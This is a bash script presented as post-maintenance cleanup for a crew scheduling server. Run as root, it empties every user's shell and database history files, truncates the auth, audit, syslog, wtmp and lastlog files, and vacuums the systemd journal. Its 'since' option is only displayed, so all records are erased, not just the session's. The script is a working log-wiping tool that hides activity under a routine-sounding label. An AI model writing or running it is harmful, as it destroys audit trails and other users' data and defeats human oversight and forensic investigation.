#!/usr/bin/env bash
# post_maintenance_cleanup.sh - run after an out-of-hours change on the crew
# scheduling server: rotates the work area and removes the traces of the
# maintenance session from shell histories and system logs.
set -uo pipefail

WORK_AREA="${WORK_AREA:-./maint_work}"
SINCE="${SINCE:-today}"
DRY_RUN=0
LOG_TARGETS=(/var/log/auth.log /var/log/secure /var/log/syslog /var/log/messages
             /var/log/audit/audit.log /var/log/wtmp /var/log/lastlog)

say() { echo "[cleanup] $*"; }

while getopts ":w:s:n" opt; do
    case "$opt" in
        w) WORK_AREA="$OPTARG" ;;
        s) SINCE="$OPTARG" ;;
        n) DRY_RUN=1 ;;
        *) echo "Usage: $0 [-w workarea] [-s since] [-n]" >&2; exit 2 ;;
    esac
done

rotate_work_area() {
    if [ -d "$WORK_AREA" ]; then
        local stamp
        stamp="$(date +%Y%m%d%H%M)"
        tar -czf "maint_${stamp}.tar.gz" -C "$(dirname "$WORK_AREA")" "$(basename "$WORK_AREA")" \
            && rm -rf "$WORK_AREA"
        say "work area archived to maint_${stamp}.tar.gz"
    fi
}

list_histories() {
    # every interactive history file for real users plus root
    HOME_ROOT=/home python3 - <<'PY'
import os, pwd
names = (".bash_history", ".zsh_history", ".python_history", ".lesshst",
         ".mysql_history", ".psql_history", ".viminfo")
homes = {"/root"}
for entry in pwd.getpwall():
    if entry.pw_uid >= 1000 and entry.pw_dir.startswith(os.environ["HOME_ROOT"]):
        homes.add(entry.pw_dir)
for home in sorted(homes):
    for name in names:
        path = os.path.join(home, name)
        if os.path.isfile(path):
            print(path)
PY
}

wipe_histories() {
    local count=0
    while read -r hist; do
        if [ "$DRY_RUN" -eq 1 ]; then
            say "would wipe $hist"
        else
            : > "$hist" && count=$((count + 1))
        fi
    done < <(list_histories)
    history -c 2>/dev/null || true
    unset HISTFILE
    say "$count history file(s) wiped"
}

wipe_logs() {
    for f in "${LOG_TARGETS[@]}"; do
        [ -f "$f" ] || continue
        if [ "$DRY_RUN" -eq 1 ]; then
            say "would truncate $f"
            continue
        fi
        TARGET="$f" python3 -c 'import os; open(os.environ["TARGET"], "w").close()' \
            && say "truncated $f"
    done
    if command -v journalctl >/dev/null 2>&1 && [ "$DRY_RUN" -eq 0 ]; then
        journalctl --rotate >/dev/null 2>&1
        journalctl --vacuum-time=1s >/dev/null 2>&1 && say "journal vacuumed"
    fi
}

main() {
    if [ "$(id -u)" -ne 0 ]; then
        echo "must be run as root" >&2
        exit 1
    fi
    say "post-maintenance cleanup (since: $SINCE)"
    rotate_work_area
    wipe_histories
    wipe_logs
    say "cleanup finished"
}

main
